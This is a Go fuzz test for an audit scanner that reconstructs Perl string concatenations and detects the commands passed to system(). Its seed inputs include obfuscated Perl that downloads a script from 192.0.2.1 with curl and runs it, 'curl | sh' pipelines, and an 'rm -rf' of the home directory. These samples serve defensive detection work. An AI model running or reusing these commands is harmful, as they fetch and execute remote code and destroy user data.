package audit

import (
	"strings"
	"testing"
)

// FuzzPerlStrExpr: no Perl code stops the reader of the strings a
// program builds from pieces (unbalanced quotes and brackets, q and qq
// with any delimiter, joins of joins, scalars bound to each other or to
// themselves): the parts of a . chain are the source split at its
// operators, the text built stays within its bound, and every finding
// of the commands read from them lies inside the file.
func FuzzPerlStrExpr(f *testing.F) {
	for _, s := range []string{
		"my $b = join '', 'http', '://', '192.0.2.1', '/t/';\nsystem(\"mkdir -p $ENV{HOME}/x && \" .\n  \"curl -fsSL ${b}s.sh -o /tmp/s && \" .\n  \"sh /tmp/s\");\n",
		"my $c = 'curl ' . $u . ' | sh';\nsystem($c);\n", "system(join(' ', 'a', $x, qw(b c)));\n",
		"system(qq{curl \"$u\" | sh});\n", "system(q(a (b) c) . qq<d>);\n", "my $a = $b . 'x';\nmy $b = \"$a\";\nsystem($a . $b);\n",
		"my $a = $a . $a;\nsystem(\"$a$a$a\");\n", "system('x' . 1.5 . ('y' . 'z'));\n", "system(\"a\" .", "system(qq", "system(join", "system((((", "$x ..= 'a'",
		"my $h = $ENV{HOME};\nsystem('sh', '-c', 'rm -rf ' . $h);\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		if got := strings.Join(perlConcatParts(code), "."); got != code {
			t.Fatalf("parts join to %q, not the source", got)
		}
		d := newPerlDecoder(code)
		if s, _ := d.perlStrExpr(code, perlHomeScalars(d), 0); len(s) > 4*maxPerlStrText {
			t.Fatalf("built %d bytes", len(s))
		}
		sc := scanCtx(code)
		scanOtherExec(sc, "bin/x.pl", code)
		fuzzLinesInFile(t, sc, code)
	})
}
